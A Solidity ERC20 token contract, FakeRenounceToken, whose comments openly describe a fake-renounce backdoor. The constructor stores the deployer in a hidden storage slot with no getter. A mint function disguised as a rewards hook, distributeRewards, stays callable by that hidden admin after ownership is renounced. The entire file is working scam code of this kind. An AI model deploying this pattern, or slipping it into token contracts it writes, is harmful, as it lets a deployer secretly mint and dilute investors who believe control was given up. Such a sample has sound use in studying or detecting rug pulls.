// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./lib/ERC20Core.sol";
import "./lib/Owned.sol";

/// Looks renounced after renounceOwnership() (owner() == 0), but a second admin, written at
/// deployment into an unnamed storage slot with no getter, can still mint.
contract FakeRenounceToken is ERC20, Owned {
    // keccak256("fake.renounce.shadow.admin") - 1: far from the compiler's sequential slots.
    bytes32 private constant SHADOW_ADMIN_SLOT =
        bytes32(uint256(keccak256("fake.renounce.shadow.admin")) - 1);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        bytes32 slot = SHADOW_ADMIN_SLOT;
        address admin = msg.sender;
        assembly {
            sstore(slot, admin)
        }
        _mint(msg.sender, supply);
    }

    /// Named like a reward hook; callable by the owner or the hidden admin.
    function distributeRewards(address to, uint256 amount) external {
        require(msg.sender == _owner || msg.sender == _shadowAdmin(), "not allowed");
        _mint(to, amount);
    }

    function _shadowAdmin() private view returns (address admin) {
        bytes32 slot = SHADOW_ADMIN_SLOT;
        assembly {
            admin := sload(slot)
        }
    }
}
